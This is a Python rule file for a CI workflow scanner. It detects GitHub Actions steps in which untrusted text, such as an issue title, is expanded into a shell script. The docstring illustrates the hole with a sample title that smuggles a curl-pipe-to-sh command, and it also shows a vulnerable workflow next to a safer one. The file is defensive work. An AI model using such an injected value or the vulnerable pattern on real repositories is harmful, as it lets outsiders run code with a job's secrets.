"""Text from outside that becomes part of a script."""

from __future__ import annotations

from typing import TYPE_CHECKING

from scanner.model import Match, Severity, Unknown
from scanner.rules.check import Judgement, rule
from scanner.workflows import Step
from scanner.workflows.injection import Undecidable, injections

if TYPE_CHECKING:
    from collections.abc import Iterator


@rule(
    id="template-injection-run",
    title="Untrusted text becomes part of a script",
    severity=Severity.HIGH,
    judges=Step,
    remediation="Hand the value over in an environment variable under 'env' and quote it in the script.",
    frameworks=("owasp-cicd/CICD-SEC-4", "github-hardening/mitigating-script-injection-attacks"),
    tags=("workflows", "injection"),
    references=(
        "https://docs.github.com/en/actions/concepts/security/script-injections",
        "https://docs.github.com/en/actions/reference/security/secure-use",
    ),
)
def template_injection_run(step: Step) -> Iterator[Judgement]:
    """The script has an expression that inserts text which somebody outside the project writes.

    ## Why it matters

    GitHub puts the value of an expression into the script before the shell reads it. A title such as
    `"; curl https://example.com/x | sh; "` is then no longer data but commands, which run with the job's token and
    secrets. The severity is high, because anybody with an account can write such a title.

    ## Avoid

    ```yaml
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue ${{ github.event.issue.title }}"
    ```

    ## Prefer

    ```yaml
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - env:
              TITLE: ${{ github.event.issue.title }}
            run: echo "New issue $TITLE"
    ```

    ## Notes

    Only a value that one of the workflow's own triggers delivers counts, and only where it reaches the result: of
    `a && b` that is `b`, of a comparison nothing. Numbers, hashes, logins, labels and the inputs of `workflow_dispatch`
    are not reported: outsiders cannot choose them freely. In a composite action each of `inputs` is reported, since
    the action cannot know what it is called with. In a workflow that is called (`workflow_call`) an input of free text
    is listed as undecided. Values that first go through `env`, step outputs or job outputs are not followed here.

    ## References

    - https://docs.github.com/en/actions/concepts/security/script-injections
    - https://docs.github.com/en/actions/reference/security/secure-use
    """
    if step.run is None:
        return
    for found in injections(step, step.run):
        if isinstance(found, Undecidable):
            yield Unknown(found.reason)
        else:
            contexts = ", ".join(f"'{context}'" for context in found.contexts)
            message = f"The script contains {contexts}, text that is chosen by {found.set_by}."
            yield Match(step.run_path, message, within=found.expression.within)
